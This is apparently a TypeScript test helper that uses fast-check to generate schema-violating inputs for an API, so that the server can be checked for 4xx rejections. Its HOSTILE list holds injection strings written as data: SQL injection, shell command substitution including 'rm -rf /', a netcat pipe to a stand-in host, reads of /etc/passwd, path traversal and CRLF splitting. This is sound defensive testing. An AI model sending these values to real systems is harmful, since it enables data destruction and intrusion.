/**
 * fast-check arbitraries of malformed input, derived from the JSON schemas of the OpenAPI
 * document: every value produced is one the schema refuses (wrong type, out of range, too long,
 * too many items, off-pattern, unknown or missing property), so a request carrying it must get a
 * 4xx. Hostile strings (SQL, shell, traversal, control characters) are mixed in where refused.
 */
import fc from "fast-check";

export interface JsonSchema {
  type?: string;
  enum?: unknown[];
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  minItems?: number;
  maxItems?: number;
  items?: JsonSchema;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean;
}

/** Strings people send on purpose: injection, traversal, control and odd Unicode characters. */
export const HOSTILE = [
  "'; DROP TABLE jobs;--",
  "1 OR 1=1",
  "$(rm -rf /)",
  "`touch /tmp/pwned`",
  "a; cat /etc/passwd",
  "a | nc evil 1",
  "../../../../etc/passwd",
  "..\\..\\windows\\system32",
  "/etc/passwd",
  "C:\\Windows\\win.ini",
  "%2e%2e%2f%2e%2e%2f",
  "a\u0000b",
  "a\nb",
  "\r\n\r\nGET / HTTP/1.1",
  "\u202eexe.sj",
  "😀".repeat(40),
  " ",
  "",
];

/** Test paths the server must refuse: they climb out of the project or are absolute. */
export const escapingTestPath = fc.oneof(
  fc.constantFrom("../x.spec.js", "tests/../../x.spec.js", "/etc/passwd", "C:\\x.spec.js", ".."),
  fc
    .tuple(fc.stringMatching(/^[a-z]{1,8}$/), fc.constantFrom("/", "\\"))
    .map(([seg, sep]) => `${seg}${sep}..${sep}..${sep}${seg}.spec.js`),
);

function breaks(schema: JsonSchema, s: string): boolean {
  if (schema.enum) return !schema.enum.includes(s);
  if (schema.minLength !== undefined && [...s].length < schema.minLength) return true;
  if (schema.maxLength !== undefined && s.length > schema.maxLength) return true;
  return schema.pattern !== undefined && !new RegExp(schema.pattern, "u").test(s);
}

/** Strings this string (or enum) schema refuses; empty when it accepts every string. */
function offStrings(schema: JsonSchema): fc.Arbitrary<string> | null {
  const candidates = fc.oneof(
    fc.constantFrom(...HOSTILE),
    fc.string({ maxLength: 40, unit: "binary" }),
    fc.string({ minLength: 1, maxLength: 20 }).map((s) => s.repeat(200)),
    fc.constantFrom("x".repeat(70_000), "é".repeat(5_000)),
  );
  const refused = candidates.filter((s) => breaks(schema, s));
  const refusesSomething =
    schema.enum || schema.pattern || schema.maxLength !== undefined || (schema.minLength ?? 0) > 0;
  return refusesSomething ? refused : null;
}

const notString = fc.oneof(
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
  fc.constant({}),
  fc.array(fc.string(), { maxLength: 3 }),
);

function offNumbers(schema: JsonSchema): fc.Arbitrary<number> {
  const out: fc.Arbitrary<number>[] = [
    fc.double({ noNaN: true, noDefaultInfinity: true }).filter((n) => !Number.isInteger(n)),
    fc.constantFrom(1e308, -1e308, Number.MAX_SAFE_INTEGER + 2),
  ];
  if (schema.minimum !== undefined) out.push(fc.integer({ min: -1e9, max: schema.minimum - 1 }));
  if (schema.maximum !== undefined)
    out.push(fc.integer({ min: schema.maximum + 1, max: schema.maximum + 1e9 }));
  return fc.oneof(...out);
}

/** A JSON value this schema refuses. */
export function invalidJson(schema: JsonSchema, testPath = false): fc.Arbitrary<unknown> {
  switch (schema.type) {
    case "string": {
      const off = offStrings(schema);
      const all: fc.Arbitrary<unknown>[] = [notString];
      if (off) all.push(off);
      if (testPath) all.push(escapingTestPath);
      return fc.oneof(...all);
    }
    case "integer":
    case "number":
      return fc.oneof(
        offNumbers(schema),
        fc.string({ maxLength: 5 }),
        fc.boolean(),
        fc.constant(null),
        fc.constant([1]),
      );
    case "boolean":
      return fc.oneof(fc.constantFrom("true", 1, 0, null), fc.constant([true]));
    case "array":
      return invalidArray(schema, testPath);
    case "object":
      return invalidObject(schema);
    default:
      throw new Error(`no malformed values for schema type ${schema.type}`);
  }
}

function invalidArray(schema: JsonSchema, testPath: boolean): fc.Arbitrary<unknown> {
  const item = schema.items!;
  const valid = validJson(item);
  const out: fc.Arbitrary<unknown>[] = [
    fc.oneof(fc.string(), fc.integer(), fc.constant(null), fc.constant({ 0: "a" })),
    // One bad item anywhere among good ones.
    fc
      .tuple(fc.array(valid, { maxLength: 5 }), invalidJson(item, testPath), fc.nat())
      .map(([good, bad, at]) => {
        const arr: unknown[] = [...good];
        arr.splice(at % (good.length + 1), 0, bad);
        return arr;
      }),
  ];
  if (schema.maxItems !== undefined) {
    const max = schema.maxItems;
    out.push(
      fc.integer({ min: max + 1, max: max + 100 }).chain((n) => fc.array(valid, { minLength: n })),
    );
  }
  if ((schema.minItems ?? 0) > 0) out.push(fc.constant([]));
  return fc.oneof(...out);
}

function invalidObject(schema: JsonSchema): fc.Arbitrary<unknown> {
  const props = Object.entries(schema.properties ?? {});
  const base = validJson(schema) as fc.Arbitrary<Record<string, unknown>>;
  const out: fc.Arbitrary<unknown>[] = [
    fc.oneof(fc.constant(null), fc.constant([]), fc.string(), fc.integer()),
  ];
  if (props.length > 0) {
    out.push(
      fc.tuple(base, fc.constantFrom(...props)).chain(([obj, [name, prop]]) =>
        invalidJson(prop, name === "tests" || name === "test_path").map((bad) => ({
          ...obj,
          [name]: bad,
        })),
      ),
    );
  }
  if (schema.additionalProperties === false) {
    out.push(
      fc
        .tuple(base, fc.string({ minLength: 1, maxLength: 20 }), fc.jsonValue())
        .filter(([, key]) => !(key in (schema.properties ?? {})))
        .map(([obj, key, v]) => ({ ...obj, [key]: v })),
    );
  }
  if (schema.required?.length) {
    out.push(
      fc.tuple(base, fc.constantFrom(...schema.required)).map(([obj, name]) => {
        const rest = { ...obj };
        delete rest[name];
        return rest;
      }),
    );
  }
  return fc.oneof(...out);
}

/** A JSON value this schema accepts (the good parts around one bad one). */
export function validJson(schema: JsonSchema): fc.Arbitrary<unknown> {
  if (schema.enum) return fc.constantFrom(...schema.enum);
  switch (schema.type) {
    case "string":
      if (schema.pattern) {
        // Patterns here are anchored with a small alphabet; a plain safe sample fits them all.
        return fc.constant(validSample(schema));
      }
      return fc.string({ minLength: schema.minLength ?? 0, maxLength: schema.maxLength ?? 20 });
    case "integer":
    case "number":
      return fc.integer({ min: schema.minimum ?? 0, max: schema.maximum ?? 1000 });
    case "boolean":
      return fc.boolean();
    case "array":
      return fc.array(validJson(schema.items!), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.min(schema.maxItems ?? 3, 3),
      });
    case "object": {
      const required = new Set(schema.required ?? []);
      const record: Record<string, fc.Arbitrary<unknown>> = {};
      for (const [name, prop] of Object.entries(schema.properties ?? {}))
        record[name] = validJson(prop);
      return fc.record(record, { requiredKeys: [...required] });
    }
    default:
      throw new Error(`no valid values for schema type ${schema.type}`);
  }
}

function validSample(schema: JsonSchema): string {
  const re = new RegExp(schema.pattern!, "u");
  const sample = [
    "a1",
    "@smoke",
    "run_01JD0000000000000000000000",
    "a.spec.js",
    "key-1",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", // a SHA-256 (blobs)
  ].find((s) => re.test(s));
  if (!sample) throw new Error(`no sample fits ${schema.pattern}`);
  return sample;
}

/** A query, path or header value (always text) this schema refuses, or null if none exists. */
export function invalidText(schema: JsonSchema): fc.Arbitrary<string> | null {
  if (schema.type === "integer" || schema.type === "number") {
    return fc
      .oneof(
        offNumbers(schema).map(String),
        fc.constantFrom("abc", "1e999", "0x10", "--1", "", "NaN", "Infinity", ...HOSTILE),
      )
      .filter((s) => !isAcceptedNumber(schema, s));
  }
  return offStrings(schema);
}

/** Query and path numbers are coerced as JavaScript's Number() does ("" and " " read as 0). */
function isAcceptedNumber(schema: JsonSchema, s: string): boolean {
  const n = Number(s);
  if (!Number.isFinite(n)) return false;
  if (schema.type === "integer" && !Number.isInteger(n)) return false;
  return n >= (schema.minimum ?? -Infinity) && n <= (schema.maximum ?? Infinity);
}
